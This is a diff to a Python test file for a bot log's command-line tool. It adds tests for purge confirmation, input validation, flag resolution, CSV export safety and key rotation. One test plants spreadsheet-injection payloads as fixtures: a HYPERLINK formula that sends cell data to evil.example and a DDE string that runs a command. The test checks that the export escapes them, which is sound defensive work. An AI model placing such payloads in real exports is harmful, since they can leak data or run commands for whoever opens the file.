@@ -117,7 +117,8 @@ def test_export_jsonl_and_csv(seeded: list[str], tmp_path: Path) -> None:
 
 
 def test_purge_erase_verify_stats(seeded: list[str], env: dict[str, str]) -> None:
-    assert ok_json("purge", "--older-than", "30d")["deleted"] == 1
+    assert ok_json("purge", "--older-than", "30d", "--dry-run")["would_delete"] == 1
+    assert ok_json("purge", "--older-than", "30d", "--yes")["deleted"] == 1
     erased = ok_json("erase-user", "discord", "u1")
     assert erased["exchanges_deleted"] == 2
     assert ok_json("list")["total"] == 0
@@ -144,6 +145,13 @@ def test_purge_erase_verify_stats(seeded: list[str], env: dict[str, str]) -> Non
         (["resolve", "12a"], "Bad flag id"),
         (["resolve", "999"], "No flag 999"),
         (["export", "--output", "/dev/null/x.jsonl"], "Cannot export"),
+        (["export", "--output", "/proc/version"], "Writing /proc/version failed"),
+        (["export", "--output", "/proc"], "not a regular file"),
+        (["resolve", "99999999999999999999"], "No flag 99999999999999999999"),
+        (["resolve", "2147483648"], "No flag 2147483648"),
+        (["audit", "--limit", "-1"], "1 to 10,000"),
+        (["purge", "--older-than", "99999999999d"], "too long"),
+        (["purge", "--older-than", "1s"], "add --yes"),
         (
             ["--scope", "guild-1", "ban", "discord", "guild-2", "u1"],
             "outside your moderation scope",
@@ -154,6 +162,59 @@ def test_bad_input_is_one_clear_error(seeded: list[str], args: list[str], messag
     code, _, error = run(*args)
     assert code != 0
     assert isinstance(error, PersonabotError) and message in str(error)
+
+
+def test_flagging_needs_a_reason_and_a_flag_resolves_once(seeded: list[str]) -> None:
+    code, _, error = run("flag", seeded[1], "--reason", "  ")
+    assert code != 0 and "reason is empty" in str(error)
+    flag = ok_json("--as", "alice", "flag", seeded[1], "--reason", "check")
+    ok_json("--as", "bob", "resolve", str(flag["id"]))
+    code, _, error = run("--as", "carol", "resolve", str(flag["id"]))
+    assert code != 0 and "already resolved by bob" in str(error)
+    assert ok_json("show", seeded[1])["flags"][0]["resolved_by"] == "bob"
+
+
+def test_csv_export_is_spreadsheet_safe_private_and_audited(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    log = open_log(load_settings())
+    hostile = exchange(
+        '=HYPERLINK("http://evil.example/?"&A1,"click")', user_id="123456789012345678"
+    )
+    hostile.message.user_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    log.record(hostile)
+    log.close()
+    target = tmp_path / "out.csv"
+    code, _, error = run("--as", "alice", "export", "--format", "csv", "--output", str(target))
+    assert code == 0, error
+    assert target.stat().st_mode & 0o077 == 0
+    [row] = list(csv.DictReader(io.StringIO(target.read_text())))
+    assert row["input_text"] == "'" + hostile.message.text
+    assert row["user_name"].startswith("'@")
+    assert row["user_id"] == "'123456789012345678"  # text, not 1.23457E+17
+    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row.values())
+    [entry] = ok_json("audit")[:1]
+    assert (entry["actor"], entry["action"], entry["detail"]["rows"]) == ("alice", "export", 1)
+
+
+def test_rotating_the_key_from_the_command_line(
+    env: dict[str, str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PERSONABOT_LOG_KEY", "first key")
+    log = open_log(load_settings())
+    log.record(exchange())
+    log.close()
+    assert all(r["ok"] for r in ok_json("verify"))
+    monkeypatch.setenv("PERSONABOT_LOG_KEY", "second key")
+    code, out, _ = run("verify")
+    assert code == 1 and "sealed with key" in out
+    monkeypatch.setenv("OLD_KEY", "first key")
+    code, out, error = run("rekey", "--old-key-env", "OLD_KEY")
+    assert code == 0, error
+    assert all(r["ok"] and r["keyed"] for r in ok_json("verify"))
+    monkeypatch.delenv("PERSONABOT_LOG_KEY")
+    code, out, _ = run("verify")
+    assert code == 1 and "not the configured key (none)" in out and "WARNING" in out
 
 
 def test_console_script_prints_one_line_and_exits_2(env: dict[str, str], seeded: list[str]) -> None:
